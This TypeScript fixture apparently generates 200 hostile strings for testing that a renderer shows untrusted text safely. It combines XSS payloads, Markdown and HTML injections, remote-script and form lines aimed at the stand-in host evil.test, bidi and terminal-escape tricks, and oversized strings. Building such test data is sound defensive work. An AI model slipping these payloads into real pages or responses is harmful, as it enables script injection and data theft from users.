/** What becomes script, markup, a request or a broken page where it is not shown as text. */
const CORES: ReadonlyArray<string> = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<a href="javascript:alert(1)">here</a>',
  '![p](https://evil.test/p.png)',
  '[l](javascript:alert(1))',
  '[l](data:text/html;base64,PHNjcmlwdD4=)',
  '<link rel=stylesheet href=https://evil.test/a.css>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.test/">',
  '<form action=https://evil.test><input name=key></form>',
  '<math><mtext><img src=x onerror=alert(1)>',
  '"><script src=https://evil.test/a.js></script>',
  "javascript:/*--></title></style></textarea></script><svg onload='alert(1)'>",
  '<object data=https://evil.test></object><embed src=https://evil.test>',
  '<video poster=https://evil.test/v.png src=https://evil.test/v.mp4>',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}#{alert(1)}',
  '\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff',
  '\u001b[31mred\u001b[0m \u0007\u0008\u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007',
  'ａ'.repeat(300),
  'W'.repeat(900),
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(60),
  '<table><tr><td>'.repeat(40),
];

/** What stands around it. */
const WRAPS: ReadonlyArray<(core: string) => string> = [
  (core) => core,
  (core) => `\`\`\`html\n${core}\n\`\`\``,
  (core) => `> ${core}\n\n- ${core}`,
  (core) => `<!--${core}-->`,
  (core) => `&lt;${core}&#x3c;script&#62;`,
  (core) => `| a | b |\n|---|---|\n| ${core} | \`${core}\` |`,
  (core) => `# ${core}\n**${core}**`,
  (core) => core.toUpperCase(),
];

/** Two hundred. */
export const HOSTILE_TEXTS: ReadonlyArray<string> = CORES.flatMap((core) => WRAPS.map((wrap) => wrap(core)));
